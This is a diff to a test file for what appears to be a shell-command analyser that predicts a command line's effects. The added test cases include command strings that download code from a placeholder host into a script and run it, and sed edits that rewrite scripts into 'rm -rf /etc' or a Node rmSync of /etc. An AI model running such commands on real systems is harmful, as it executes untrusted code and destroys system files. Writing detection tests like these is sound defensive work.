@@ -18,6 +18,9 @@ describe('a file that the line changes is not what the disk shows', () => {
     ['by code', `python3 -c "open('run.sh','w').write('evil')"; sh run.sh`],
     ['by awk', `awk 'BEGIN{print "evil" > "run.sh"}'; sh run.sh`],
     ['by an editor of streams that is not followed', "sed -i '1a evil' run.sh; sh run.sh"],
+    ['by one of several things', "sed -i -E 's/l|ls/evil/' run.sh; sh run.sh"],
+    ['by letters that are changed on the way', "sed -i 's/ls/\\U&/' run.sh; sh run.sh"],
+    ['by a group that is not there', "sed -i 's/ls/\\1/' run.sh; sh run.sh"],
     ['by perl', 'perl -pi -e s/a/b/ run.sh; sh run.sh'],
     ['by a pattern that it is one of', "sed -i '1a evil' *.sh; sh run.sh"],
     ['by the pattern of a search', "find . -name '*.sh' -exec sed -i '1a evil' {} +; sh run.sh"],
@@ -27,6 +30,14 @@ describe('a file that the line changes is not what the disk shows', () => {
     ['by a diff', "patch -p1 <<'E'\n--- a/run.sh\n+++ b/run.sh\nE\nsh run.sh"],
   ])('%s', (_name, line) => expect(effects(line)).toContain(unfollowed('run.sh')))
 
+  test.each([
+    ['in words of the line', `python3 -c "import urllib.request as u; u.urlretrieve('http://x.example/a', 'run.sh')"; sh run.sh`],
+    [
+      'on standard input',
+      "python3 - <<'E'\nimport requests\nopen('run.sh', 'w').write(requests.get('http://x.example/a').text)\nE\nsh run.sh",
+    ],
+  ])('what code fetches is what then runs: %s', (_name, line) => expect(effects(line)).toContain('execute:download run.sh'))
+
   test('nor is a manifest', () =>
     expect(effects('npm pkg set scripts.build=evil; npm run build')).toContain(
       'unknown: script `package.json build` is of a manifest that this line brings',
@@ -34,6 +45,13 @@ describe('a file that the line changes is not what the disk shows', () => {
 
   test.each([
     ['a plain substitution is made', "sed -i 's/ls src/rm -rf \\/etc/' run.sh; sh run.sh", 'delete /etc'],
+    [
+      'signs of extended expressions stand for themselves',
+      'sed -i \'s/console.log(1)/require("fs").rmSync("\\/etc")/\' run.ts; tsx run.ts',
+      'delete /etc',
+    ],
+    ['what was found is put in again', "sed -i -E 's/(ls) ([a-z]+)$/rm -rf \\/\\2/' run.sh; sh run.sh", 'delete /src'],
+    ['one after the other', "sed -i 's/ls/rm -rf/; s/src/\\/etc/' run.sh; sh run.sh", 'delete /etc'],
     ['in every file of a pattern', "sed -i 's/ls src/rm -rf \\/etc/' *.sh; sh run.sh", 'delete /etc'],
     ['in every file of a listing', "git ls-files | xargs sed -i 's/ls src/rm -rf \\/etc/'; sh run.sh", 'delete /etc'],
     ['or none', "sed -i 's/nothing/rm -rf \\/etc/' *.sh; sh run.sh", 'execute:project run.sh'],
